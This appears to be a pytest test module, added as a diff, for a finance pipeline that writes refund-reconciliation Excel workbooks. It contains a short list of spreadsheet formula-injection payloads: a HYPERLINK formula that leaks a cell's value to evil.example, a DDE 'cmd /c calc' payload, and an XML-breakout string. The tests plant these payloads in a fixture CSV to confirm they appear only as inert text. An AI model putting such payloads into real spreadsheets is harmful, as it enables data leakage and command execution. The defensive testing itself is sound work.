@@ -1,0 +1,564 @@
+"""The finance workbook, read back as a reader without calculation would: figures, formats, texts, modes."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import errno
+import io
+import re
+import subprocess
+import sys
+from collections import defaultdict
+from collections.abc import Iterator
+from decimal import Decimal
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import psycopg
+import pytest
+from openpyxl import Workbook, load_workbook
+from openpyxl.utils import range_boundaries
+from openpyxl.utils.escape import unescape
+from openpyxl.worksheet.worksheet import Worksheet
+
+from ingestion.contract import feeds
+from ingestion.load import load_feed
+from nightly import stages
+from nightly.errors import NightFailed
+from reporting import sheets, workbook, workbook_sheets
+from reporting.workbook import WorkbookFailed, write_workbook, write_workbooks
+from simulator.company import Company
+from simulator.run import simulate
+from warehouse import build
+from warehouse.connections import connect
+from warehouse.publish import publish
+from warehouse.settings import ROOT, process_environment, settings
+
+DAY = dt.date(2026, 1, 31)
+# A period that no hostile row is in, so that the simulator's truth is all there is of it.
+PERIOD, SPOILT = "2025-12", "2026-01"
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"look here")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+    "<r><t>x</t></r></is></c><c r='A1'><f>1+1</f></c><c t='inlineStr'><is><r></r>", '=cmd|"/c calc"!A1',
+    "<b>&amp;'\"</b>", "_x003D_1+1",
+)  # fmt: skip
+SETTLEMENTS = (
+    "settlement_id", "batch_no", "type", "refund_id", "gross_amount", "fee_amount", "net_amount", "currency",
+    "settled_amount", "settled_currency", "fx_rate", "booked_at", "status",
+)  # fmt: skip
+
+
+class Books(NamedTuple):
+    """A published company: what the simulator knows of it."""
+
+    truth: Path
+
+
+@pytest.fixture(scope="module")
+def books(database: Path, tmp_path_factory: pytest.TempPathFactory) -> Books:
+    """A company with defects, and settlements whose numbers are formulas, loaded, built and published."""
+    truth = tmp_path_factory.mktemp("truth")
+    simulate(
+        Company(
+            out=database, truth=truth, order_lines=1500, seed=4, start=dt.date(2025, 9, 1), history_end=DAY,
+            nights=0, dirt=0.0, defects=1,
+        )
+    )  # fmt: skip
+    _hostile_settlements(database / "erp" / "erp_payment_settlements_20260131_b.csv")
+    for feed in feeds():
+        load_feed(feed, DAY, lambda line: None)
+    for _ in build.build_all(DAY):
+        pass
+    publish(DAY)
+    return Books(truth / DAY.isoformat())
+
+
+def _hostile_settlements(path: Path) -> None:
+    text = io.StringIO()
+    rows = csv.writer(text)
+    rows.writerow(SETTLEMENTS)
+    for number in HOSTILE:
+        rows.writerow(
+            [number, "B9", "refund", "", "-10.00", "0.00", "-10.00", "EUR", "-10.00", "EUR", "",
+             "2026-01-20T10:00:00Z", "succeeded"]
+        )  # fmt: skip
+    rows.writerow(["TRAILER", len(HOSTILE), f"{-10 * len(HOSTILE)}.00"])
+    path.write_text(text.getvalue(), encoding="utf-8", newline="")
+    path.with_name(f"{path.name}.done").touch()
+
+
+@pytest.fixture(scope="module")
+def book(books: Books) -> Workbook:
+    return load_workbook(write_workbook(PERIOD), data_only=True)
+
+
+@pytest.fixture(scope="module")
+def spoilt(books: Books) -> Workbook:
+    return load_workbook(write_workbook(SPOILT))
+
+
+def _table(sheet: Worksheet, head: str = "") -> list[dict[str, Any]]:
+    """Rows below a head, as far as its first column goes; `head` is the head's first cell."""
+    rows = sheet.iter_rows(values_only=True)
+    wanted = head or _first_head(sheet)
+    names = next(row for row in rows if row[0] == wanted)
+    found = []
+    for row in rows:
+        if row[0] is None:
+            break
+        found.append({name: value for name, value in zip(names, row, strict=True) if name})
+    return found
+
+
+def _first_head(sheet: Worksheet) -> str:
+    return str(sheet[sheet.print_title_rows.split(":")[0].strip("$")][0].value)
+
+
+def _money(value: Any) -> Decimal:
+    return Decimal(str(value)).quantize(Decimal("0.01"))
+
+
+def _truth(books: Books, name: str, period: str) -> list[dict[str, str]]:
+    with (books.truth / f"{name}.csv").open(encoding="utf-8") as file:
+        return [row for row in csv.DictReader(file) if row["period"] == period and row["class"]]
+
+
+def test_exceptions_are_those_that_the_company_knows_of(books: Books, book: Workbook) -> None:
+    listed = {
+        (row["Group"], row["Gap"], row["Class"]): (_money(row["Amount"]), row["Currency"])
+        for row in _table(book["Exceptions"]) if row["Status"] != "cleared"
+    }  # fmt: skip
+    true = {
+        (row["group_key"], row["gap"], row["class"]): (Decimal(row["amount"]), row["currency"])
+        for row in _truth(books, "reconciliation", PERIOD)
+    }
+    assert len(true) > 30 and listed == true
+
+
+def test_the_proof_bridges_by_what_the_company_knows_of(books: Books, book: Workbook) -> None:
+    bridges: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
+    for row in _table(book["Proof"]):
+        if row["Kind"] == "bridge":
+            bridges[row["Gap"], row["Class"], row["Currency"]] -= _money(row["Amount"])
+    true: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
+    for row in _truth(books, "reconciliation_periods", PERIOD):
+        true[row["gap"], row["class"], row["currency"]] += Decimal(row["amount"])
+    assert len(true) > 20
+    assert {k: v for k, v in bridges.items() if v} == {k: v for k, v in true.items() if v}
+
+
+def test_the_legs_are_the_sums_of_the_feeds(books: Books, book: Workbook) -> None:
+    feeds_say = {
+        "M": "select currency, sum(amount) from raw.erp_credit_memos"
+        " where posted_on between '2025-12-01' and '2025-12-31' group by currency",
+        "P": "select currency, -sum(gross_amount) from raw.erp_payment_settlements"
+        " where (booked_at at time zone 'UTC')::date between '2025-12-01' and '2025-12-31'"
+        " and status = 'succeeded' and type in ('refund', 'refund_failure', 'chargeback') group by currency",
+    }
+    rows = _table(book["Proof"])
+    names = {"M": "Credit memos as in the source", "P": "Cash as in the source"}
+    with connect("auditor") as connection:
+        for leg, query in feeds_say.items():
+            shown: dict[str, Decimal] = defaultdict(Decimal)
+            for row in rows:
+                if row["Line"] == names[leg]:
+                    shown[row["Currency"]] += _money(row["Amount"])
+            assert shown == dict(connection.execute(query).fetchall()), leg
+
+
+def test_the_summary_shows_legs_gaps_and_checks_that_are_0(books: Books, book: Workbook) -> None:
+    legs: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
+    for row in _table(book["Proof"]):
+        if row["Kind"] == "leg":
+            legs[row["Line"], row["Currency"]] += _money(row["Amount"])
+    totals = [row for row in _table(book["Summary"], "Entity") if row["Entity"] == "All entities"]
+    assert {row["Currency"] for row in totals} == {currency for _, currency in legs}
+    for row in totals:
+        entitled, credited = (legs[name, row["Currency"]] for name in ("Entitlement", "Credit memos"))
+        assert _money(row["Entitlement (E)"]) == entitled and _money(row["Credit memos (M)"]) == credited
+        assert _money(row["E − M"]) == entitled - credited
+    checks = _table(book["Summary"], "Check")
+    assert [row["Check"] for row in checks] == [
+        "Gaps less their classes", "Bridges less exceptions", "Legs less their documents",
+        "Opening to closing",
+    ]  # fmt: skip
+    assert {row[currency] for row in checks for currency in ("EUR", "GBP", "SEK", "USD")} == {0}
+
+
+def test_a_check_that_is_not_0_shows_what_is_left(books: Books, tmp_path: Path) -> None:
+    with connect("admin", autocommit=True) as connection:
+        connection.execute(
+            "create table public.kept as select * from finance.refund_exceptions"
+            " where period = %s and class <> 'CUTOFF' and currency = 'EUR' and amount <> 0 limit 1", [PERIOD],
+        )  # fmt: skip
+        key = "(group_key, gap, class) in (select group_key, gap, class from public.kept)"
+        connection.execute(f"update finance.refund_exceptions set amount = amount + 0.07 where {key}")
+        try:
+            found = load_workbook(write_workbook(PERIOD, tmp_path / "off.xlsx"), data_only=True)
+        finally:
+            connection.execute(f"update finance.refund_exceptions set amount = amount - 0.07 where {key}")
+            connection.execute("drop table public.kept")
+    left = {row["Check"]: row["EUR"] for row in _table(found["Summary"], "Check")}
+    assert left["Bridges less exceptions"] == 0.07
+    assert [amount for name, amount in left.items() if name != "Bridges less exceptions"] == [0, 0, 0]
+
+
+def test_ages_and_classes_add_up_the_list(book: Workbook) -> None:
+    listed: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
+    items: dict[tuple[str, ...], int] = defaultdict(int)
+    for row in _table(book["Exceptions"]):
+        if row["Status"] != "cleared":
+            listed[row["Gap"], row["Class"], row["Currency"], row["Age"]] += _money(row["Amount"])
+            items[row["Gap"], row["Class"], row["Currency"]] += 1
+    pivot = _table(book["By class and age"])
+    ages = [name for name in pivot[0] if name.endswith(" days")]
+    shown = {
+        (row["Gap"], row["Class"], row["Currency"], age.removesuffix(" days")): _money(row[age])
+        for row in pivot for age in ages if row[age] is not None
+    }  # fmt: skip
+    assert shown == listed
+    assert {(r["Gap"], r["Class"], r["Currency"]): r["Items"] for r in pivot} == items
+
+
+def test_the_roll_forward_closes_with_what_the_last_day_of_the_mart_says(book: Workbook) -> None:
+    with connect("finance_reader") as connection:
+        closing = {
+            (gap, name, currency): amount
+            for gap, name, currency, amount in connection.execute(
+                "select gap, class, currency, closing_amount from finance.reconciliation_rollforward"
+                " where day = '2025-12-31' and closing_amount <> 0"
+            )
+        }
+    shown = {
+        (row["Gap"], row["Class"], row["Currency"]): _money(row["Closing"])
+        for row in _table(book["Roll-forward"]) if row["Closing"]
+    }  # fmt: skip
+    assert shown == closing and len(closing) > 20
+
+
+def test_the_documents_are_all_that_the_proof_starts_from(book: Workbook) -> None:
+    listed: dict[tuple[str, ...], Decimal] = defaultdict(Decimal)
+    for row in _table(book["Documents"]):
+        listed[
+            f"{workbook_sheets.LEG_NAMES[row['Leg']]} as in the source", row["Entity"], row["Currency"]
+        ] += _money(row["Amount"])
+    proof = {
+        (row["Line"], row["Entity"], row["Currency"]): _money(row["Amount"])
+        for row in _table(book["Proof"]) if row["Kind"] == "source"
+    }  # fmt: skip
+    assert listed == proof and len(proof) > 15
+
+
+def test_a_document_leads_to_its_file_and_line(books: Books, book: Workbook) -> None:
+    row = next(r for r in _table(book["Documents"]) if r["Leg"] == "P")
+    with connect("auditor") as connection:
+        found = connection.execute(
+            "select s.settlement_id, -s.gross_amount from raw.erp_payment_settlements as s"
+            " inner join ops.file_ledger as f on f.file_id = s._file_id"
+            " where f.name = %s and s._line_no = %s", [row["File"], row["Line"]],
+        ).fetchall()  # fmt: skip
+    assert found == [(row["Document"], _money(row["Amount"]))]
+
+
+# --- Cells
+
+
+def test_amounts_are_numbers_and_dates_are_dates(book: Workbook) -> None:
+    for sheet, names in (("Exceptions", ("Amount", "Open since")), ("Documents", ("Amount", "Day"))):
+        head = next(row for row in book[sheet].iter_rows() if row[0].value == _first_head(book[sheet]))
+        at = {cell.value: cell.column for cell in head}
+        amount, day = (book[sheet].cell(head[0].row + 1, at[name]) for name in names)
+        assert (amount.data_type, amount.number_format) == ("n", "#,##0.00;[Red]-#,##0.00;#,##0.00")
+        assert day.is_date and isinstance(day.value, dt.datetime) and day.number_format == "yyyy-mm-dd"
+
+
+def test_each_currency_has_its_own_decimals() -> None:
+    assert sheets.amount_format("JPY") == "#,##0;[Red]-#,##0;#,##0"
+    assert sheets.amount_format("EUR") == "#,##0.00;[Red]-#,##0.00;#,##0.00"
+
+
+def test_an_amount_of_more_digits_than_excel_keeps_is_a_text_and_no_other_number() -> None:
+    assert sheets.is_exact(Decimal("9999999999999.99")) and not sheets.is_exact(Decimal("99999999999999.99"))
+
+
+def test_heads_stay_filter_and_repeat(book: Workbook) -> None:
+    lists = [sheet for sheet in book if sheet.title not in ("Summary", "Terms")]
+    assert len(lists) == 8
+    for sheet in lists:
+        head = sheet.print_title_rows.split(":")[0].strip("$")
+        assert sheet.freeze_panes and sheet.freeze_panes.endswith(str(int(head) + 1)), sheet.title
+        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith(f"A{head}:"), sheet.title
+    for sheet in book:
+        assert sheet.page_setup.orientation == "landscape"
+        assert sheet.page_setup.fitToHeight == 0 and sheet.sheet_properties.pageSetUpPr.fitToPage
+
+
+def test_what_a_feed_says_is_never_a_formula(spoilt: Workbook) -> None:
+    found = {
+        unescape(cell.value): cell
+        for sheet in ("Documents", "Exceptions") for row in spoilt[sheet].iter_rows() for cell in row
+        if isinstance(cell.value, str) and any(value.strip() in unescape(cell.value) for value in HOSTILE)
+    }  # fmt: skip
+    assert {value.strip() for value in HOSTILE} <= {value.strip() for value in found}
+    assert {f"SET:{value.strip()}" for value in HOSTILE} <= {value.strip() for value in found}
+    assert {(cell.data_type, cell.quotePrefix) for cell in found.values()} == {("s", True)}
+
+
+def test_every_formula_is_one_of_ours(spoilt: Workbook) -> None:
+    formulas = [
+        cell.value for sheet in spoilt for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
+    ]
+    ours = re.compile(r"""=ROUND\((SUMIFS\([^()]*\)|[-+]?[A-Z]+\d+([-+][A-Z]+\d+)*|0),2\)""")
+    assert len(formulas) > 100 and [text for text in formulas if not ours.fullmatch(text)] == []
+    assert not any("evil" in text or "cmd" in text for text in formulas)
+
+
+def test_a_text_can_not_end_its_literal_in_a_formula() -> None:
+    assert sheets.quoted('a",1)+HYPERLINK("x') == '"a"",1)+HYPERLINK(""x"'
+
+
+def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
+    assert len(sheets.text("x" * 40_000)) == 32_767 and sheets.text("x" * 40_000).endswith("…")
+
+
+def test_formulas_come_to_the_values_that_are_stored(books: Books, book: Workbook) -> None:
+    written = load_workbook(write_workbook(PERIOD))
+    cells = [
+        (sheet.title, cell.coordinate, cell.value)
+        for sheet in written for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
+    ]  # fmt: skip
+    off = [
+        (sheet, at, formula)
+        for sheet, at, formula in cells
+        if abs(_calculate(book, book[sheet], formula) - book[sheet][at].value) > 0.004
+    ]
+    assert len(cells) > 200 and off == []
+
+
+def _calculate(book: Workbook, sheet: Worksheet, formula: str) -> float:
+    """What a formula of ours comes to: a rounded sum of cells, or of those that conditions choose."""
+    inner = formula.removeprefix("=ROUND(").removesuffix(",2)")
+    if not inner.startswith("SUMIFS("):
+        signed = re.findall(r"([-+]?)([A-Z]+\d+)", inner)
+        return round(sum((-1 if sign == "-" else 1) * sheet[at].value for sign, at in signed), 2)
+    amounts, *rest = inner.removeprefix("SUMIFS(").removesuffix(")").split(",")
+    conditions = [(_column(book, rest[n]), rest[n + 1].strip('"')) for n in range(0, len(rest), 2)]
+    chosen = [
+        amount or 0
+        for place, amount in enumerate(_column(book, amounts))
+        if all(str(values[place]) == wanted for values, wanted in conditions)
+    ]
+    return round(sum(chosen), 2)
+
+
+def _column(book: Workbook, area: str) -> list[Any]:
+    name, cells = area.rsplit("!", 1)
+    left, top, _, bottom = range_boundaries(cells.replace("$", ""))
+    column = book[name.strip("'")].iter_rows(top, bottom, left, left, values_only=True)
+    return [value for (value,) in column]
+
+
+# --- Closed periods
+
+
+# As the views of the close have them, for the columns that the workbook reads.
+CLOSE = """
+create table finance.period_status (period text, status text, is_first_open boolean, closed_at timestamptz,
+    approver text, note text, publication_id bigint, business_date date);
+create table finance.period_acts (act_id bigint, act text, period text, approver text, note text,
+    acted_at timestamptz, publication_id bigint);
+create table finance.refund_proof_as_reported (period text, entity text, currency text, position integer,
+    line text, leg text, gap text, class text, label text, amount numeric(18, 2), own_amount numeric(18, 2),
+    earlier_amount numeric(18, 2));
+create table finance.refund_proof_as_restated (period text, entity text, currency text, position integer,
+    restated_amount numeric(18, 2), difference numeric(18, 2));
+create table finance.restatements (original_period text, subject text, entity text, currency text,
+    group_key text, leg text, document_key text, document_type text, document_no text, component text,
+    gap text, class text, reported_amount numeric(18, 2), restated_amount numeric(18, 2),
+    difference numeric(18, 2), kind text, posted_periods text, publication_id bigint, file_name text,
+    line_no bigint);
+insert into finance.period_status values
+    ('2025-12', 'closed', false, '2026-01-05 09:00Z', '=A. Controller', 'December', 7, '2026-01-04'),
+    ('2026-01', 'open', true, null, null, null, null, null);
+insert into finance.period_acts values
+    (1, 'close', '2025-12', 'B. Hasty', 'too early', '2026-01-02 09:00Z', 5),
+    (2, 'reopen', '2025-12', 'B. Hasty', 'a feed was missing', '2026-01-03 09:00Z', 6),
+    (3, 'close', '2025-12', '=A. Controller', 'December', '2026-01-05 09:00Z', 7);
+insert into finance.refund_proof_as_reported values
+    ('2025-12', 'LEJ', 'EUR', 202, 'leg', 'M', null, '', 'Credit memos', 112.00, 100.00, 12.00);
+insert into finance.refund_proof_as_restated values ('2025-12', 'LEJ', 'EUR', 202, 104.50, 4.50);
+insert into finance.restatements values
+    ('2025-12', 'document', 'LEJ', 'EUR', 'REQ:1', 'M', 'M:1', 'memo', 'CM1', 'tax', null, null,
+     null, 4.50, 4.50, 'new', '2026-01', 9, 'erp_credit_memos_20260110.xml', 17),
+    ('2025-12', 'gap', 'LEJ', 'EUR', 'REQ:1', null, null, null, null, null, 'E-M', 'TAX',
+     4.50, 0, -4.50, 'changed', '2026-01', 9, null, null);
+grant select on all tables in schema finance to finance_reader;
+"""
+CLOSED = (
+    "period_status", "period_acts", "refund_proof_as_reported", "refund_proof_as_restated", "restatements",
+)  # fmt: skip
+
+
+@pytest.fixture()
+def closed(books: Books) -> Iterator[None]:
+    """December is closed, after it was closed too early; a memo of December came in January."""
+    with connect("admin", autocommit=True) as connection:
+        for name in CLOSED:
+            connection.execute(f"drop view if exists finance.{name} cascade")
+        connection.execute(CLOSE)
+    yield
+    with connect("admin", autocommit=True) as connection:
+        for name in CLOSED:
+            connection.execute(f"drop table finance.{name}")
+
+
+def test_a_closed_period_says_who_closed_it_and_what_was_reported(closed: None, tmp_path: Path) -> None:
+    found = load_workbook(write_workbook(PERIOD, tmp_path / "closed.xlsx"), data_only=True)
+    said = [(row[0], row[1]) for row in found["Summary"].iter_rows(max_row=9, values_only=True)]
+    assert ("Status", "CLOSED by =A. Controller on 2026-01-05 09:00, as of 2026-01-04, publication 7") in said
+    assert ("Reopened", "2026-01-03 09:00 by B. Hasty: a feed was missing") in said
+    (reported,) = _table(found["As reported"])
+    assert [reported[n] for n in ("As reported", "Of the period, as restated", "Difference")] == [
+        112,
+        104.5,
+        4.5,
+    ]
+    assert [(row["Leg or gap"], row["Difference"], row["File"]) for row in _table(found["Restatements"])] == [
+        ("M", 4.5, "erp_credit_memos_20260110.xml"), ("E-M", -4.5, None),
+    ]  # fmt: skip
+
+
+def test_the_period_that_took_a_late_row_shows_it(closed: None, tmp_path: Path) -> None:
+    found = load_workbook(write_workbook(SPOILT, tmp_path / "open.xlsx"), data_only=True)
+    said = [(row[0], row[1]) for row in found["Summary"].iter_rows(max_row=9, values_only=True)]
+    assert ("Status", "open; late rows of closed periods post to it") in said
+    assert [row["Period"] for row in _table(found["Restatements"])] == [PERIOD, PERIOD]
+    assert "The period is open" in str(found["As reported"]["A5"].value)
+
+
+# --- The file
+
+
+def test_only_its_owner_may_read_it(books: Books, tmp_path: Path) -> None:
+    nightly, asked = write_workbook(PERIOD), write_workbook(PERIOD, tmp_path / "asked.xlsx")
+    assert [oct(path.stat().st_mode & 0o777) for path in (nightly.parent, nightly, asked)] == [
+        "0o700", "0o600", "0o600",
+    ]  # fmt: skip
+    assert [path.name for path in nightly.parent.iterdir() if path.name.startswith(".")] == []
+
+
+def test_it_is_read_as_finance_reader(books: Books) -> None:
+    with connect("admin", autocommit=True) as connection:
+        connection.execute("revoke select on finance.refund_proof from finance_reader")
+    try:
+        with pytest.raises(psycopg.errors.InsufficientPrivilege):
+            write_workbook(PERIOD)
+    finally:
+        with connect("admin", autocommit=True) as connection:
+            connection.execute("grant select on finance.refund_proof to finance_reader")
+
+
+def test_the_same_publication_gives_the_same_bytes(books: Books, tmp_path: Path) -> None:
+    one, two = (write_workbook(PERIOD, tmp_path / f"{name}.xlsx").read_bytes() for name in ("one", "two"))
+    assert one == two
+    with connect("finance_reader") as connection:
+        ((published_at,),) = connection.execute("select published_at from ops.publications").fetchall()
+    created = load_workbook(tmp_path / "one.xlsx").properties.created
+    assert created == published_at.astimezone(dt.UTC).replace(tzinfo=None, microsecond=0)
+
+
+def test_a_period_that_is_not_there_names_those_that_are(books: Books) -> None:
+    with pytest.raises(WorkbookFailed, match=r"no period '2031-01'; there are 2025-09, 2025-10, .*2026-01$"):
+        write_workbook("2031-01")
+
+
+def test_a_period_without_documents_says_so_on_every_sheet(books: Books, tmp_path: Path) -> None:
+    with connect("admin", autocommit=True) as connection:
+        connection.execute("update ops.publications set business_date = '2026-02-01'")
+    try:
+        empty = load_workbook(write_workbook("2026-02", tmp_path / "empty.xlsx"))
+    finally:
+        with connect("admin", autocommit=True) as connection:
+            connection.execute("update ops.publications set business_date = %s", [DAY])
+    said = {sheet.title: {cell.value for row in sheet.iter_rows() for cell in row} for sheet in empty}
+    assert "Nothing in this period." in said["Proof"] and "No document in this period." in said["Documents"]
+    assert "No exception in this period." in said["Exceptions"]
+    assert "Nothing was open in this period." in said["Roll-forward"]
+
+
+def test_what_does_not_fit_is_counted_and_the_proof_does_not_add_up_a_part(
+    books: Books, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(workbook_sheets, "ROWS_MOST", 30)
+    found = load_workbook(write_workbook(PERIOD, tmp_path / "part.xlsx"))
+    assert len(_table(found["Documents"])) == 25
+    exceptions = [row["Entity"] for row in _table(found["Exceptions"])]
+    assert len(exceptions) == 25 and exceptions[-1].startswith("LEFT OUT: this row and those after it")
+    note = str(found["Documents"]["A3"].value)
+    assert re.match(r"25 of \d+ rows; \d+ are LEFT OUT", note) and "refund_documents where period" in note
+    assert not any(
+        "Documents" in str(cell.value) for row in found["Proof"].iter_rows(min_row=5) for cell in row
+        if cell.data_type == "f"
+    )  # fmt: skip
+
+
+def test_a_full_disk_leaves_the_last_workbook_and_says_what_to_do(
+    books: Books, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = write_workbook(PERIOD)
+    before = path.read_bytes()
+
+    def full(self: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(sheets.Book, "close", full)
+    with pytest.raises(WorkbookFailed, match=r"No space left.*python -m reporting workbook 2025-12"):
+        write_workbook(PERIOD)
+    assert path.read_bytes() == before and [p for p in path.parent.iterdir() if p.name[0] == "."] == []
+    with pytest.raises(NightFailed, match="The night itself is published"):
+        stages.report(DAY.isoformat())
+
+
+def test_a_folder_that_is_not_there_is_named(books: Books, tmp_path: Path) -> None:
+    with pytest.raises(WorkbookFailed, match=r"can't be written to .*nowhere"):
+        write_workbook(PERIOD, tmp_path / "nowhere" / "book.xlsx")
+
+
+def test_a_night_writes_the_newest_two_periods_and_those_that_it_touched(books: Books) -> None:
+    for path in workbook.folder().iterdir():
+        path.unlink()
+    assert stages.report(DAY.isoformat()).count("\n") == 2
+    assert _names() == ["refunds-2025-12.xlsx", "refunds-2026-01.xlsx"]
+    with connect("admin", autocommit=True) as connection:
+        connection.execute("update ops.publications set from_seq = 1")
+    try:
+        touched = {path.name for path in write_workbooks()}
+    finally:
+        with connect("admin", autocommit=True) as connection:
+            connection.execute("update ops.publications set from_seq = 0")
+    assert touched == {f"refunds-{p}.xlsx" for p in ("2025-09", "2025-10", "2025-11", "2025-12", "2026-01")}
+
+
+def _names() -> list[str]:
+    return sorted(path.name for path in (settings().var / "finance").iterdir())
+
+
+def test_the_command_writes_where_it_is_told(books: Books, tmp_path: Path) -> None:
+    done = _command(PERIOD, "--to", str(tmp_path / "mine.xlsx"))
+    assert (done.returncode, done.stdout.strip()) == (0, str(tmp_path / "mine.xlsx"))
+    failed = _command("2031-01")
+    assert failed.returncode == 1 and "there are 2025-09" in failed.stderr
+
+
+def _command(*arguments: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "reporting", "workbook", *arguments], cwd=ROOT, env=process_environment(),
+        capture_output=True, text=True, check=False,
+    )  # fmt: skip
+
+
+def test_before_the_first_publication_there_is_nothing_to_write(fresh_database: Path) -> None:
+    assert write_workbooks() == []
+    with pytest.raises(WorkbookFailed, match="Nothing has been published yet"):
+        write_workbook(PERIOD)
